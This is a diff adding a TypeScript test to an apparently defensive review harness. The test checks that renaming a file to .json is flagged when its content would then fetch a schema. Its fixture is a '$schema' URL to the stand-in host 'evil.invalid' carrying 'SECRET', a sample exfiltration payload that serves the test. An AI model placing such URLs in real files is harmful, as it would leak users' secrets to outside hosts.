@@ -56,6 +56,19 @@ describe('a change that is not ordinary', () => {
     assert.deepEqual(harness.documents.applied, []);
   });
 
+  it('B19: counts what the text of a file means under the name that it is to have', async () => {
+    const schema = '{"$schema": "https://evil.invalid/?d=SECRET"}';
+    const harness = reviewHarness({ 'x.ts': schema, 'y.json': schema });
+    for (const [from, target, reasons] of [['x.ts', 'x.json', 1], ['x.ts', 'z.ts', 0], ['y.json', 'z.json', 0]] as const) {
+      const controller = new AbortController();
+      void propose(harness, [{ kind: 'move', place: place(from), to: place(target, { missing: true }) }], controller.signal);
+      await settled();
+      assert.equal(harness.card().files[0]?.reasons.length, reasons, `${from} to ${target}`);
+      controller.abort(new Error('stopped'));
+      await settled();
+    }
+  });
+
   it('asks one thing at a time, and does not ask for a turn that was stopped meanwhile', async () => {
     const harness = reviewHarness({ '.npmrc': 'a\n', '.env': 'b\n' });
     const answers: ((yes: boolean) => void)[] = [];
